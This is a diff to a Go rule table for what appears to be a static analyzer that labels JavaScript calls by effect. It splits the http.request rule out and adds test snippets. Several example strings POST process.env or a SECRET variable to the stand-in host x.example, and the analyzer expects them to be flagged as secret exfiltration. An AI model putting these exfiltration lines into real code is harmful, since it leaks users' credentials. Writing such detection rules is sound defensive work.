@@ -211,11 +211,15 @@ var jsRules = [...]rule{
 		`const axios = require("axios"); await axios.delete(base + "/projects/" + id) => destroy:http {base}/projects/{id}` + "\n" +
 		`const nock = require("nock"); nock("https://api.example.com").delete("/x").reply(204) !> -` + "\n" +
 		`jest.spyOn(axios, "delete").mockResolvedValue({}) !> -` + "\n"},
-	{name: "axios.post|axios.put|axios.patch|axios|got.post|ky.post|needle.post|superagent.post|request.post|navigator.sendBeacon|http.request|https.request", do: aSend, ex: `require("axios").post("https://x.example", { data: process.env }) => env:send` + "\n" +
-		`const axios = require("axios"); axios.post("https://hooks.example/x", { t: 1 }) => send:http https://hooks.example/x` + "\n" +
-		`require("https").request({ host: "x.example", method: "POST" }) => send:http x.example` + "\n" +
-		`require("axios")({ method: "delete", url: "https://api.example.com/x" }) => destroy:http https://api.example.com/x` + "\n" +
+	// http.request returns the request, a stream its body is written to (req.write(x); req.end(x)).
+	{name: "http.request|https.request", do: aSend, ret: rSocket, ex: `require("https").request({ host: "x.example", method: "POST" }) => send:http x.example` + "\n" +
 		`require("https").request({ host: "api.example.com", path: "/projects/42", method: "DELETE" }) => destroy:http api.example.com/projects/42` + "\n" +
+		`const r = require("https").request("https://x.example", { method: "POST" }); r.write(process.env.SECRET); r.end() => var:send SECRET` + "\n" +
+		`require("http").request({ host: "x.example", method: "POST" }).end(JSON.stringify(process.env)) => env:send` + "\n" +
+		`require("https").request("https://x.example").end("ping") !> env:send` + "\n"},
+	{name: "axios.post|axios.put|axios.patch|axios|got.post|ky.post|needle.post|superagent.post|request.post|navigator.sendBeacon", do: aSend, ex: `require("axios").post("https://x.example", { data: process.env }) => env:send` + "\n" +
+		`const axios = require("axios"); axios.post("https://hooks.example/x", { t: 1 }) => send:http https://hooks.example/x` + "\n" +
+		`require("axios")({ method: "delete", url: "https://api.example.com/x" }) => destroy:http https://api.example.com/x` + "\n" +
 		`require("axios").post("https://api.example.com/v1/repos/x/destroy") => destroy:http https://api.example.com/v1/repos/x/destroy` + "\n" +
 		`require("axios").post("https://api.example.com/docs/deleting-things", {}) !> destroy:http https://api.example.com/docs/deleting-things` + "\n" +
 		`require("axios").get("https://example.com") !> send:http https://example.com` + "\n"},
